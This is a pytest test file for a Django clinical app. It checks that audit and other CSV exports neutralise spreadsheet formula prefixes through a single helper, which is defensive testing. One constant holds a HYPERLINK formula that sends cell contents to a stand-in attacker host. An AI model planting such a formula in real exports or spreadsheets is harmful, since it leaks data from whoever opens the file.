"""Issue 16, item 5: one CSV writer for every export, neutralising formula prefixes."""

import csv
import io
from decimal import Decimal
from pathlib import Path

import pytest

from core import csvsafe, services

REPO = Path(__file__).resolve().parents[2]
HOSTILE_REASON = '=HYPERLINK("http://evil.example/?x="&A1,"click")'


@pytest.mark.parametrize("prefix", ["=", "+", "-", "@", "\t", "\r"])
def test_a_text_cell_starting_with_a_formula_prefix_is_shown_as_text(prefix):
    assert csvsafe.safe_cell(prefix + "1+1") == "'" + prefix + "1+1"


@pytest.mark.parametrize("value", [-3, 2.5, Decimal("-0.5"), 0])
def test_numbers_stay_numbers(value):
    assert csvsafe.safe_cell(value) == value


def test_plain_text_and_empty_cells_are_unchanged():
    assert csvsafe.safe_cell("Alice Example") == "Alice Example"
    assert csvsafe.safe_cell(None) == ""
    assert csvsafe.safe_cell("a=b") == "a=b"


@pytest.mark.django_db
def test_an_edit_reason_starting_with_a_formula_is_neutralised_in_the_audit_export(
    login, physician, auditor, patient
):
    services.patient_update(
        actor=physician, patient=patient, data={"name": "Alice Changed"}, reason=HOSTILE_REASON
    )
    response = login(auditor).get("/audit/export.csv")
    assert response.status_code == 200
    table = list(csv.reader(io.StringIO(b"".join(response.streaming_content).decode())))
    reasons = [dict(zip(table[0], row, strict=True))["reason"] for row in table[1:]]
    assert "'" + HOSTILE_REASON in reasons
    assert HOSTILE_REASON not in reasons


def test_every_export_writes_through_the_one_csv_helper():
    offenders = [
        str(path.relative_to(REPO))
        for app in ("core", "screening", "infusion")
        for path in (REPO / app).rglob("*.py")
        if "csv.writer(" in path.read_text(encoding="utf-8") and path.name != "csvsafe.py"
    ]
    assert offenders == []
